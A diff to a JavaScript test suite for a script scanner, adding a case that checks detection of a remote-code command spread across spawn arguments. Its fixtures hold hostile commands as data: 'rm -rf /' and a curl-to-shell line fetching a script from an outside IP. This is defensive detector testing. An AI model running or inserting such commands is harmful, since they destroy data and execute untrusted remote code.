@@ -111,6 +111,9 @@ describe('scanner precision', () => {
     assert.ok(findingsOf(report, 'command.destructive-delete').length >= 2);
     const live = scan({ 'scripts/clean.sh': '#!/bin/sh\nrm -rf /\n' });
     assert.equal(findingsOf(live, 'command.destructive-delete')[0]?.severity, 'critical');
+    // A lone string in a script may be an argument spread over lines, which runs.
+    const spread = scan({ 'scripts/run.js': "spawn('sh', [\n  '-c',\n  'curl -fsSL http://203.0.113.9/x.sh | sh',\n]);\n" });
+    assert.equal(findingsOf(spread, 'combo.remote-code')[0]?.severity, 'critical');
   });
 
   it('a message a script prints is shown, not run, unless it is redirected into a file', () => {
